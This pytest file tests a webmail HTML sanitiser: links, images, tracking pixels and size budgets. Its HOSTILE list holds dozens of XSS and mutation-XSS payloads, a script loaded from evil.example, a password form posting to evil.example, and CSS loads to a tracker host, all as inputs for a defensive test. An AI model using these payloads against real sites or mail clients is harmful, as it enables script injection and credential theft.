"""mailcore.sanitize: hostile HTML comes out inert; links and images come out as the webmail wants.

The checks parse the output as a browser would (html5lib, as shipped with bleach) and walk the
tree, rather than compare strings; a few happy-path tests pin the exact output.
"""

from __future__ import annotations

import os
import re
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import pytest
from bleach._vendor import html5lib
from bleach._vendor.html5lib.serializer import HTMLSerializer

from mailcore import sanitize
from mailcore.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_PROTOCOLS,
    ALLOWED_TAGS,
    IN_PROCESS_MAX_CHARS,
    MAX_DATA_URI_CHARS,
    MAX_HTML_CHARS,
    MAX_TAGS,
    SafeHtml,
    sanitize_html,
    strip_tracking_params,
)

CID_PREFIX = "/messages/7/parts/"
PROXY_PREFIX = "/image-proxy?url="
OUR_ATTRIBUTES = {"target", "rel", "data-courrier-mismatch", "data-courrier-blocked"}
CSS_FORBIDDEN = ("url(", "expression", "import", "position", "behavior", "binding", "image", "\\")
DATA_IMAGE = re.compile(r"data:image/(png|gif|jpeg|webp);base64,[A-Za-z0-9+/=]*")
PNG_1X1 = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)


def cid_url(content_id: str) -> str | None:
    """The caller's resolver: a URL for parts of the message, None for an unknown part."""
    return None if content_id == "unknown" else CID_PREFIX + urllib.parse.quote(content_id)


def proxy_url(url: str) -> str:
    return PROXY_PREFIX + urllib.parse.quote(url, safe="")


def clean(html: str, **options: Any) -> SafeHtml:
    """sanitize_html with the caller's cid resolver; the body must be within budget."""
    result = sanitize_html(html, cid_url=cid_url, **options)
    assert result.over_budget == ""
    return result


def parse(html: str) -> Element:
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def elements(html: str) -> Iterator[Element]:
    root = parse(html)
    for element in root.iter():
        if element is not root:
            yield element


def text_of(html: str) -> str:
    return "".join(parse(html).itertext())


def reserialize(html: str) -> str:
    """The output as a browser would rebuild it from the tree it parsed."""
    walker = html5lib.getTreeWalker("etree")
    serializer = HTMLSerializer(
        quote_attr_values="always",
        quote_char='"',
        use_best_quote_char=False,
        omit_optional_tags=False,
        escape_lt_in_attrs=True,
        escape_rcdata=True,
        alphabetical_attributes=False,
    )
    return serializer.render(walker(parse(html)))


def assert_inert(html: str) -> None:
    """Only allowed elements and attributes, no script-bearing URL, no CSS that loads or runs."""
    for element in elements(html):
        assert isinstance(element.tag, str), "a comment survived"
        assert element.tag in ALLOWED_TAGS, element.tag
        allowed = set(ALLOWED_ATTRIBUTES.get(element.tag, [])) | set(ALLOWED_ATTRIBUTES["*"])
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), name
            assert name in allowed | OUR_ATTRIBUTES, (element.tag, name)
            assert name != "srcset"
            assert "alert" not in value, (name, value)
            if name == "href":
                assert element.tag == "a"
                assert urllib.parse.urlsplit(value).scheme in ALLOWED_PROTOCOLS, value
            if name in ("src", "background"):
                assert value.startswith((CID_PREFIX, PROXY_PREFIX)) or DATA_IMAGE.fullmatch(value)
            if name == "style":
                assert not any(word in value.lower() for word in CSS_FORBIDDEN), value
            if name not in ("href", "title", "data-courrier-mismatch"):
                # Only a link may name the sender's URLs; nothing else a browser would load.
                assert "//" not in value, (name, value)


@pytest.fixture
def forks(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """The pid of every child the sanitiser forks (os.fork still forks)."""
    pids: list[int] = []
    real_fork = os.fork

    def recording_fork() -> int:
        pid = real_fork()
        if pid:
            pids.append(pid)
        return pid

    monkeypatch.setattr(sanitize.os, "fork", recording_fork)
    return pids


def assert_gone(pid: int) -> None:
    """Reaped (no zombie left) and not running."""
    with pytest.raises(ChildProcessError):
        os.waitpid(pid, os.WNOHANG)
    assert not Path(f"/proc/{pid}").exists() or _parent_of(pid) != os.getpid()


def _parent_of(pid: int) -> int:
    try:
        return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return 0


# Each entry: hostile markup, and a word of its text that must NOT come out ("" when none).
HOSTILE: list[Any] = [
    # Scripts and event handlers
    pytest.param("<p>hi</p><script>alert(1)</script>", "alert", id="script"),
    pytest.param("<SCRIPT SRC=//evil.example/x.js>alert(1)</SCRIPT>", "alert", id="script-caps"),
    pytest.param("<img src=x onerror=alert(1)>", "", id="onerror"),
    pytest.param("<body onload=alert(1)>text</body>", "", id="onload"),
    pytest.param('<div OnMouseOver="alert(1)" oNcLiCk=alert(2)>x</div>', "", id="odd-case"),
    pytest.param('<a href="https://ok.example/" onfocus=alert(1) autofocus>x</a>', "", id="focus"),
    pytest.param("<details open ontoggle=alert(1)>x</details>", "", id="ontoggle"),
    # javascript: and friends, disguised
    pytest.param('<a href="javascript:alert(1)">x</a>', "", id="js-url"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', "", id="js-url-case"),
    pytest.param('<a href="jav&#x09;ascript:alert(1)">x</a>', "", id="js-tab-entity"),
    pytest.param('<a href="jav&#x0A;ascript:alert(1)">x</a>', "", id="js-newline-entity"),
    pytest.param('<a href="jav\tascript:alert(1)">x</a>', "", id="js-raw-tab"),
    pytest.param('<a href=" &#14;  javascript:alert(1)">x</a>', "", id="js-leading-control"),
    pytest.param(
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        "",
        id="js-all-entities",
    ),
    pytest.param('<a href="&#x6A;avascript&colon;alert(1)">x</a>', "", id="js-colon-entity"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', "", id="vbscript"),
    pytest.param('<a href="file:///etc/passwd">x</a>', "", id="file"),
    pytest.param(
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "", id="data"
    ),
    pytest.param('<img src="javascript:alert(1)">', "", id="js-img"),
    pytest.param(
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', "", id="svg-data"
    ),
    pytest.param('<img src="data:text/html,<script>alert(1)</script>">', "", id="html-data"),
    # SVG and MathML
    pytest.param("<svg><script>alert(1)</script></svg>", "alert", id="svg-script"),
    pytest.param("<svg onload=alert(1)><text>x</text></svg>", "", id="svg-onload"),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text>click</text></a></svg>', "", id="svg-link"
    ),
    pytest.param(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "", id="math-mglyph"
    ),
    pytest.param('<math href="javascript:alert(1)">x</math>', "", id="math-href"),
    pytest.param(
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', "", id="svg-style-mxss"
    ),
    pytest.param(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "",
        id="form-math-mxss",
    ),
    pytest.param(
        '<select><template><style><!--</style><a rel="--></style></template></select>'
        '<img src=x onerror=alert(1)>">',
        "",
        id="select-template-mxss",
    ),
    # CSS
    pytest.param('<div style="width: expression(alert(1))">x</div>', "", id="css-expression"),
    pytest.param('<div style="width: ex/**/pression(alert(1))">x</div>', "", id="css-comment"),
    pytest.param('<div style="background: url(javascript:alert(1))">x</div>', "", id="css-js"),
    pytest.param(
        "<div style=\"background-image: url('https://t.example/p.png')\">x</div>", "", id="css-url"
    ),
    pytest.param(
        '<div style="background: u\\72l(https://t.example/p.png)">x</div>', "", id="css-escape"
    ),
    pytest.param(
        '<div style="list-style: url(https://t.example/l.png); cursor: url(https://t.example/c)">'
        "x</div>",
        "",
        id="css-other-urls",
    ),
    pytest.param(
        '<div style="behavior: url(x.htc); -moz-binding: url(https://t.example/x.xml#x)">x</div>',
        "",
        id="css-behavior",
    ),
    pytest.param(
        '<p style="position: fixed; top: 0; left: 0; width: 100%; z-index: 9999">x</p>',
        "",
        id="css-overlay",
    ),
    pytest.param(
        "<style>@import url(https://t.example/x.css); p { color: red }</style><p>x</p>",
        "color",
        id="style-import",
    ),
    pytest.param(
        "<div style=\"font-family: 'a&#39;;background-image:url(https://t.example/x);x:'\">x</div>",
        "",
        id="css-quote-entity",
    ),
    # Forms, metadata, frames
    pytest.param(
        '<form action="https://evil.example/login"><input name=p type=password>'
        '<button formaction="javascript:alert(1)">Go</button><select><option>a</select>'
        "<textarea>secret</textarea></form>",
        "secret",
        id="form",
    ),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">x', "", id="meta"
    ),
    pytest.param('<base href="https://evil.example/"><a href="/x">x</a>', "", id="base"),
    pytest.param('<link rel=stylesheet href="https://t.example/s.css">x', "", id="link"),
    pytest.param('<iframe src="https://evil.example/"></iframe>', "", id="iframe"),
    pytest.param(
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "", id="srcdoc"
    ),
    pytest.param('<object data="https://evil.example/x.swf">alt</object>', "alt", id="object"),
    pytest.param('<embed src="https://evil.example/x.swf">', "", id="embed"),
    pytest.param('<frameset><frame src="https://evil.example/"></frameset>', "", id="frameset"),
    pytest.param("<template><img src=x onerror=alert(1)>inside</template>", "inside", id="tmpl"),
    pytest.param("<title>T<img src=x onerror=alert(1)></title>", "T", id="title"),
    # Markup a browser re-parses differently
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "", id="noscript"
    ),
    pytest.param("<!--><img src=x onerror=alert(1)>-->", "", id="abrupt-comment"),
    pytest.param("<!-- <img src=x onerror=alert(1)> -->ok", "", id="comment"),
    pytest.param("<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->", "", id="mso"),
    pytest.param("<p>a<!-- <img src=x onerror=alert(1)>", "", id="unclosed-comment"),
    pytest.param("<p>a</p><![CDATA[<img src=x onerror=alert(1)>]]>", "", id="cdata"),
    pytest.param(
        '<a href="https://ok.example/" title="x</a><img src=x onerror=alert(1)>">t</a>',
        "",
        id="title-with-markup",
    ),
    pytest.param("<textarea><img src=x onerror=alert(1)></textarea>", "", id="textarea"),
    pytest.param("<xmp><img src=x onerror=alert(1)></xmp>", "", id="xmp"),
    pytest.param("<plaintext><img src=x onerror=alert(1)>", "", id="plaintext"),
    pytest.param("<img/src=x/onerror=alert(1)>", "", id="slashes"),
    pytest.param("<img src=x onerror=alert(1)//", "", id="unclosed-tag"),
    pytest.param("<<script>script>alert(1)<</script>/script>", "", id="doubled"),
    pytest.param("<scr<script>ipt>alert(1)</script>", "", id="split-name"),
    pytest.param(
        '<a href="https://ok.example/">x<a href="javascript:alert(1)">y</a></a>', "", id="nested-a"
    ),
    pytest.param(
        '<table><tr><td><a href="https://ok.example/">a</td></tr><img src=x onerror=alert(1)>'
        "</table>",
        "",
        id="foster-parent",
    ),
    pytest.param('<p title="&#xD800;&#0;">x\udc00</p>', "", id="surrogates"),
    # Remote loads
    pytest.param(
        '<img srcset="https://t.example/a.png 1x, https://t.example/b.png 2x">', "", id="srcset"
    ),
    pytest.param(
        '<table background="https://t.example/bg.png"><tr>'
        '<td background="//t.example/bg2.png">x</td></tr></table>',
        "",
        id="background",
    ),
    pytest.param('<img src="//t.example/p.png" width=100>', "", id="protocol-relative"),
    pytest.param('<img src="\\\\t.example\\p.png" width=100>', "", id="backslashes"),
    pytest.param('<img src="https:t.example/p.png" width=100>', "", id="no-slashes"),
    pytest.param('<img src="ht&#x09;tps://t.example/p.png" width=100>', "", id="tab-in-scheme"),
    pytest.param(
        '<img lowsrc="https://t.example/l" dynsrc="https://t.example/d" longdesc="https://t.example/x">',
        "",
        id="old-image-attributes",
    ),
    pytest.param('<video poster="https://t.example/p.png"></video>', "", id="poster"),
    pytest.param('<input type=image src="https://t.example/i.png">', "", id="input-image"),
    pytest.param('<body background="https://t.example/b.png">x</body>', "", id="body-background"),
    pytest.param(
        '<blockquote cite="https://t.example/c">q</blockquote><q cite="https://t.example/c">q</q>',
        "",
        id="cite",
    ),
    pytest.param(
        '<img src="https://t.example/a.png" data-courrier-blocked="" data-x="https://t.example/">'
        '<a data-courrier-mismatch="nothing" href="https://ok.example/">ok.example</a>',
        "",
        id="forged-markers",
    ),
]


@pytest.mark.parametrize(("hostile", "gone"), HOSTILE)
def test_hostile_markup_comes_out_inert(hostile: str, gone: str) -> None:
    result = clean(hostile)
    assert_inert(result.html)
    if gone:
        assert gone not in text_of(result.html)


@pytest.mark.parametrize(("hostile", "gone"), HOSTILE)
def test_hostile_markup_comes_out_inert_with_images_shown(hostile: str, gone: str) -> None:
    assert_inert(clean(hostile, images=True, proxy_url=proxy_url).html)


@pytest.mark.parametrize(("hostile", "gone"), HOSTILE)
def test_a_browser_parses_the_output_back_to_the_same_markup(hostile: str, gone: str) -> None:
    html = clean(hostile).html
    assert reserialize(html) == html


@pytest.mark.parametrize(("hostile", "gone"), HOSTILE)
def test_hostile_markup_comes_out_inert_from_the_child_too(
    hostile: str, gone: str, forks: list[int]
) -> None:
    padded = "<p>" + "padding " * 600 + "</p>" + hostile  # too big to stay in-process
    result = clean(padded)
    assert len(forks) == 1
    assert_inert(result.html)
    if gone:
        assert gone not in text_of(result.html)


def test_scripts_styles_and_titles_are_dropped_with_their_content() -> None:
    html = clean(
        "<html><head><title>Subject</title><style>p { color: red }</style></head>"
        "<body><p>Hello</p><script>var secret = 1;</script></body></html>"
    ).html
    assert html == "<p>Hello</p>"


def test_other_disallowed_elements_lose_their_tags_but_keep_their_text() -> None:
    html = clean("<form action=/x><label>Name <button>Send</button></label></form>").html
    assert html == "Name Send"


def test_the_output_is_a_body_fragment() -> None:
    html = clean(
        '<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"></head>'
        '<body bgcolor="#fff"><div>Hi</div></body></html>'
    ).html
    assert html == "<div>Hi</div>"


def test_a_plain_reply_comes_out_as_it_was() -> None:
    reply = (
        '<div dir="ltr">Thanks, see you on <b>Tuesday</b>.<br><br>Bob</div>'
        '<blockquote type="cite" style="margin: 0 0 0 0.8ex; border-left: 1px solid #ccc">'
        "<p>Lunch?</p></blockquote>"
    )
    assert clean(reply) == SafeHtml(html=reply)


def test_css_keeps_harmless_properties_and_drops_the_rest() -> None:
    html = clean(
        '<p style="COLOR: Red; position: absolute; font-weight: bold !important; '
        'background: #fff url(https://t.example/b.png); margin: 0 auto">x</p>'
    ).html
    assert html == '<p style="color: Red; font-weight: bold !important; margin: 0 auto">x</p>'


def test_a_style_with_nothing_allowed_is_removed() -> None:
    assert clean('<p style="position: fixed">x</p>').html == "<p>x</p>"


def test_character_references_in_attributes_are_decoded_once() -> None:
    html = clean('<p title="a &amp;amp; b &lt;c&gt; &quot;d&quot;">x</p>').html
    assert parse(html)[0].get("title") == 'a &amp; b <c> "d"'


def test_links_open_in_a_new_tab_without_referrer_and_show_their_target() -> None:
    result = clean('<a href="https://example.org/page" title="Lies">Our page</a>')
    assert result.html == (
        '<a href="https://example.org/page" title="https://example.org/page" target="_blank" '
        'rel="noopener noreferrer">Our page</a>'
    )


def test_mailto_and_tel_links_stay() -> None:
    html = clean('<a href="mailto:bob@example.org?subject=Hi">Bob</a> <a href="tel:+331234">T</a>')
    hrefs = [element.get("href") for element in elements(html.html)]
    assert hrefs == ["mailto:bob@example.org?subject=Hi", "tel:+331234"]


@pytest.mark.parametrize(
    "href", ["/relative", "page.html", "#top", "?q=1", "ftp://example.org/f", "cid:part", ""]
)
def test_links_the_webmail_cannot_follow_lose_their_href(href: str) -> None:
    html = clean(f'<a href="{href}" title="kept">text</a>').html
    assert html == '<a title="kept">text</a>'


@pytest.mark.parametrize(
    ("href", "expected"),
    [
        ("//example.org/x", "https://example.org/x"),
        ("https:example.org/x", "https://example.org/x"),
        ("https:\\\\example.org\\x?q=a\\b", "https://example.org/x?q=a\\b"),
        ("HTTPS://User:Pw@Example.ORG:8443/x", "https://example.org:8443/x"),
        (" \thttps://exa\nmple.org/x ", "https://example.org/x"),
        ("https://%65xample.org/x", "https://example.org/x"),
    ],
)
def test_links_are_rebuilt_as_the_browser_would_read_them(href: str, expected: str) -> None:
    html = clean(f'<a href="{href}">text</a>').html
    assert parse(html)[0].get("href") == expected


def test_tracking_parameters_are_stripped_from_links_and_counted() -> None:
    result = clean(
        '<a href="https://shop.example/item?id=4&amp;utm_source=nl&amp;UTM_Medium=email'
        '&amp;fbclid=abc&amp;color=red&amp;mc_eid=1#reviews">Item</a>'
    )
    assert parse(result.html)[0].get("href") == "https://shop.example/item?id=4&color=red#reviews"
    assert result.stripped_params == 4


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://e.example/?utm_source=a&utm_campaign=b", "https://e.example/"),
        ("https://e.example/p?a=1&gclid=x&b=2&_hsenc=y", "https://e.example/p?a=1&b=2"),
        ("https://e.example/p?utm%5Fsource=a&q=1", "https://e.example/p?q=1"),
        ("https://e.example/p?a=%20b&igshid=1&c", "https://e.example/p?a=%20b&c"),
        ("https://e.example/p?a=1", "https://e.example/p?a=1"),
        ("https://e.example/p#utm_source=a", "https://e.example/p#utm_source=a"),
        ("mailto:a@e.example?utm_source=x", "mailto:a@e.example?utm_source=x"),
        ("not a url", "not a url"),
    ],
)
def test_strip_tracking_params_keeps_everything_else_as_it_was(url: str, expected: str) -> None:
    assert strip_tracking_params(url) == expected


@pytest.mark.parametrize(
    ("text", "href", "host"),
    [
        ("paypal.com", "https://evil.example/login", "evil.example"),
        ("https://www.bank.co.uk/login", "https://bank.co.uk.evil.io/", "bank.co.uk.evil.io"),
        ("bank.co.uk", "https://other.co.uk/", "other.co.uk"),
        ("good.example", "//evil.example\\@good.example/", "evil.example"),
        ("paypal.com", "https://xn--pypal-4ve.com/", "xn--pypal-4ve.com"),
        ("<https://docs.example.org/d/1>", "https://192.0.2.1/d/1", "192.0.2.1"),
        ("fass.de", "https://xn--fa-hia.de/", "xn--fa-hia.de"),
    ],
)
def test_a_link_whose_text_names_another_domain_is_flagged(text: str, href: str, host: str) -> None:
    result = clean(f'<a href="{href}">{text.replace("<", "&lt;")}</a>')
    assert parse(result.html)[0].get("data-courrier-mismatch") == host
    assert result.mismatched_links == 1


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("www.example.com", "https://example.com/"),
        ("example.com", "https://news.example.com/a?utm_source=x"),
        ("https://docs.example.org/d/1", "https://docs.example.org/d/1"),
        ("Click here", "https://evil.example/"),
        ("invoice.pdf", "https://files.example.net/invoice.pdf"),
        ("EXAMPLE.COM.", "https://example.com/"),
        ("bücher.example", "https://xn--bcher-kva.example/"),
        ("bob@example.org", "mailto:bob@example.org"),
    ],
)
def test_a_link_whose_text_matches_its_target_is_not_flagged(text: str, href: str) -> None:
    result = clean(f'<a href="{href}">{text}</a>')
    assert parse(result.html)[0].get("data-courrier-mismatch") is None
    assert result.mismatched_links == 0


def test_a_sender_cannot_forge_the_webmails_markers() -> None:
    result = clean(
        '<a data-courrier-mismatch="" href="https://ok.example/">ok.example</a>'
        '<img data-courrier-blocked="" src="cid:logo">'
    )
    assert "data-courrier" not in result.html


def test_the_text_of_a_link_counts_across_its_inner_elements() -> None:
    result = clean('<a href="https://evil.example/"><b>pay</b>pal<span>&#46;com</span></a>')
    assert result.mismatched_links == 1


def test_remote_images_are_blocked_by_default_and_counted() -> None:
    result = clean('<img src="https://cdn.example/logo.png" srcset="x 2x" alt="Logo" width="120">')
    assert result == SafeHtml(
        html='<img alt="Logo" width="120" data-courrier-blocked="">', remote_images=1
    )


def test_remote_images_go_through_the_proxy_when_images_are_shown() -> None:
    result = clean(
        '<img src="https://cdn.example/logo.png" alt="Logo" width="120">',
        images=True,
        proxy_url=proxy_url,
    )
    assert result == SafeHtml(
        html=f'<img src="{proxy_url("https://cdn.example/logo.png")}" alt="Logo" width="120">',
        remote_images=1,
    )


def test_remote_images_stay_blocked_when_shown_without_a_proxy() -> None:
    result = clean('<img src="https://cdn.example/logo.png">', images=True)
    assert result.html == '<img data-courrier-blocked="">'


def test_an_image_with_only_a_srcset_uses_its_first_candidate() -> None:
    result = clean(
        '<img srcset="https://cdn.example/a.png 1x, https://cdn.example/b.png 2x">',
        images=True,
        proxy_url=proxy_url,
    )
    assert result.html == f'<img src="{proxy_url("https://cdn.example/a.png")}">'


@pytest.mark.parametrize("images", [False, True])
def test_background_attributes_are_blocked_proxied_or_resolved(images: bool) -> None:
    result = clean(
        '<table background="https://cdn.example/bg.png"><tr><td background="cid:bg@x">x</td>'
        "</tr></table>",
        images=images,
        proxy_url=proxy_url,
    )
    table, _, _, cell = elements(result.html)
    assert table.get("background") == (proxy_url("https://cdn.example/bg.png") if images else None)
    assert cell.get("background") == CID_PREFIX + "bg%40x"
    assert result.remote_images == 1


@pytest.mark.parametrize(
    "pixel",
    [
        '<img src="https://t.example/o.gif" width="1" height="1">',
        '<img src="https://t.example/o.gif" width="2px" height="1" alt="">',
        '<img src="https://t.example/o.gif" style="width: 1px; height: 1px">',
        '<img src="https://t.example/o.gif" style="display: none">',
        '<img src="https://t.example/o.gif" style="visibility: hidden" width="600">',
        '<img src="https://t.example/o.gif" width="0">',
        '<img src="https://us1.list-manage.com/track/open.php?u=1" width="600" height="300">',
        '<img src="//t.example/o.gif" width=1 height=1>',
    ],
)
@pytest.mark.parametrize("images", [False, True])
def test_tracking_pixels_are_removed_and_counted_in_both_modes(pixel: str, images: bool) -> None:
    result = clean(f"<p>Hi{pixel}</p>", images=images, proxy_url=proxy_url)
    assert result == SafeHtml(html="<p>Hi</p>", tracking_pixels=1)


def test_tiny_inline_images_are_not_tracking_pixels() -> None:
    result = clean('<img src="cid:spacer" width="1" height="1">')
    assert result == SafeHtml(html=f'<img src="{CID_PREFIX}spacer" width="1" height="1">')


def test_cid_images_are_resolved_through_the_callers_function() -> None:
    html = clean('<img src="cid:logo%40example.org" alt="L"><img src="CID:<b@x>">').html
    assert (
        html == f'<img src="{CID_PREFIX}logo%40example.org" alt="L"><img src="{CID_PREFIX}b%40x">'
    )


def test_cid_images_the_caller_does_not_know_are_dropped() -> None:
    assert clean('<p>a<img src="cid:unknown">b</p>').html == "<p>ab</p>"
    assert sanitize_html('<p>a<img src="cid:logo">b</p>').html == "<p>ab</p>"


def test_data_images_are_kept_for_raster_types_in_base64() -> None:
    html = clean(f'<img src="data:image/PNG;base64,{PNG_1X1[:40]}\n{PNG_1X1[40:]}" alt="dot">').html
    assert html == f'<img src="data:image/png;base64,{PNG_1X1}" alt="dot">'


@pytest.mark.parametrize(
    "source",
    [
        "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "data:image/png,rawbytes",
        "data:text/html;base64,PHA+",
        "data:image/png;base64,!!!",
        "data:image/png;base64," + "A" * MAX_DATA_URI_CHARS,
    ],
)
def test_other_data_images_are_dropped(source: str) -> None:
    assert clean(f'<p>a<img src="{source}">b</p>').html == "<p>ab</p>"


def test_relative_image_sources_are_dropped() -> None:
    assert clean('<p>a<img src="/logout">b<img src="x">c</p>').html == "<p>abc</p>"


def test_a_newsletter_keeps_its_layout_and_loses_its_trackers() -> None:
    result = clean(newsletter(blocks=3))
    assert_inert(result.html)
    assert result.remote_images == 3
    assert result.tracking_pixels == 1
    assert result.stripped_params == 9
    assert [element.tag for element in elements(result.html)][:4] == ["table", "tbody", "tr", "td"]
    assert "Headline number 2" in text_of(result.html)


def test_empty_input_gives_empty_output() -> None:
    assert sanitize_html("") == SafeHtml(html="")


# Budget


def test_a_body_over_the_size_cap_is_too_large() -> None:
    result = sanitize_html("<p>" + "a" * MAX_HTML_CHARS + "</p>")
    assert result == SafeHtml(html="", over_budget="too-large")


@pytest.mark.parametrize(
    "attributes",
    [
        " ".join(f'a{i}="{i}"' for i in range(30_000)),
        " ".join(f"a{i}" for i in range(30_000)),
        "".join(f'a{i}="{i}"' for i in range(30_000)),  # no space needed after a quoted value
    ],
    ids=["valued", "bare", "packed"],
)
def test_thirty_thousand_attributes_are_too_complex(attributes: str) -> None:
    result = sanitize_html(f"<div {attributes}>x</div>")
    assert result == SafeHtml(html="", over_budget="too-complex")


def test_twenty_thousand_nested_divs_are_too_complex() -> None:
    result = sanitize_html("<div>" * 20_000 + "x" + "</div>" * 20_000)
    assert result == SafeHtml(html="", over_budget="too-complex")


def test_stray_end_tags_do_not_hide_the_nesting() -> None:
    result = sanitize_html("<div></span></p>" * 5_000)
    assert result.over_budget == "too-complex"


def test_nested_formatting_elements_are_too_complex() -> None:
    result = sanitize_html("".join(f"<b id={i}>" for i in range(4_000)) + "x")
    assert result.over_budget == "too-complex"


def test_too_many_tags_are_too_complex() -> None:
    assert sanitize_html("<br>" * (MAX_TAGS + 1)).over_budget == "too-complex"


def test_a_huge_numeric_character_reference_is_too_complex() -> None:
    assert sanitize_html("<p>&#" + "1" * 100_000 + ";</p>").over_budget == "too-complex"


def test_long_lists_and_paragraphs_without_end_tags_are_within_budget() -> None:
    result = sanitize_html("<ul>" + "<li>item" * 2_000 + "</ul>" + "<p>para" * 2_000)
    assert result.over_budget == ""


def test_a_slow_body_times_out_and_its_child_is_killed_and_reaped(forks: list[int]) -> None:
    result = sanitize_html(newsletter(blocks=20), timeout=0.001)
    assert result == SafeHtml(html="", over_budget="timeout")
    assert len(forks) == 1
    assert_gone(forks[0])


def test_a_body_beyond_tiny_is_sanitised_in_a_child_that_exits(forks: list[int]) -> None:
    body = newsletter(blocks=8)
    assert len(body) > IN_PROCESS_MAX_CHARS
    result = sanitize_html(body, images=True, proxy_url=proxy_url, cid_url=cid_url)
    assert result.over_budget == ""
    assert result == sanitize._sanitize(body, sanitize._Options(True, proxy_url, cid_url))
    assert len(forks) == 1
    assert_gone(forks[0])


def test_a_tiny_body_is_sanitised_in_process(forks: list[int]) -> None:
    assert sanitize_html("<p>Hello</p>").html == "<p>Hello</p>"
    assert forks == []


def test_the_child_cannot_touch_the_parents_open_files(tmp_path: Path) -> None:
    with (tmp_path / "parent.txt").open("wb") as parent_file:
        descriptor = parent_file.fileno()

        def writing_cid_url(content_id: str) -> str:
            os.write(descriptor, b"written by the child")
            return CID_PREFIX + content_id

        result = sanitize_html(newsletter(blocks=8) + '<img src="cid:x">', cid_url=writing_cid_url)
    assert result.over_budget == "error"
    assert (tmp_path / "parent.txt").read_bytes() == b""


def failing_proxy(url: str) -> str:
    raise RuntimeError("proxy bug")


@pytest.mark.parametrize("blocks", [0, 8], ids=["in-process", "in-child"])
def test_an_error_while_sanitising_is_reported_not_raised(
    blocks: int, caplog: pytest.LogCaptureFixture
) -> None:
    body = newsletter(blocks) if blocks else '<img src="https://cdn.example/a.png">'
    result = sanitize_html(body, images=True, proxy_url=failing_proxy)
    assert result == SafeHtml(html="", over_budget="error")
    assert "proxy bug" in caplog.text


def newsletter(blocks: int) -> str:
    """A marketing mail: layout tables, inline styles, tracked links, images, an open pixel."""
    parts = [
        "<html><head><title>News</title><style>.btn { color: #fff }</style></head>"
        '<body style="margin:0"><table width="100%" cellpadding="0" bgcolor="#f4f4f4"><tr>'
        '<td align="center"><table width="600" style="max-width:600px;background:#ffffff">'
    ]
    for i in range(blocks):
        parts.append(
            '<tr><td style="padding:20px 30px;font-family:Helvetica,Arial,sans-serif;'
            'font-size:16px;line-height:24px;color:#333333"><table width="100%"><tr>'
            f'<td width="180" valign="top"><a href="https://click.example-mail.com/ls?upn={i}'
            f'&amp;utm_source=nl&amp;utm_medium=email&amp;utm_campaign=c{i}">'
            f'<img src="https://images.example-cdn.com/n/{i}.jpg" width="180" height="120" '
            f'alt="Picture {i}" style="display:block;border:0"></a></td>'
            '<td style="padding-left:20px" valign="top">'
            f'<h2 style="margin:0 0 8px 0;font-size:20px">Headline number {i}</h2>'
            "<p>Lorem ipsum dolor sit amet, <b>consectetur</b> adipiscing elit, sed do eiusmod "
            "tempor incididunt ut labore et dolore magna aliqua &amp; more.</p>"
            f'<a href="https://www.example.com/articles/{i}?id={i}" style="color:#0066cc">'
            "Read more</a></td></tr></table></td></tr>"
        )
    parts.append(
        '</table><img src="https://click.example-mail.com/wf/open?upn=abc" width="1" height="1">'
        "</td></tr></table></body></html>"
    )
    return "".join(parts)
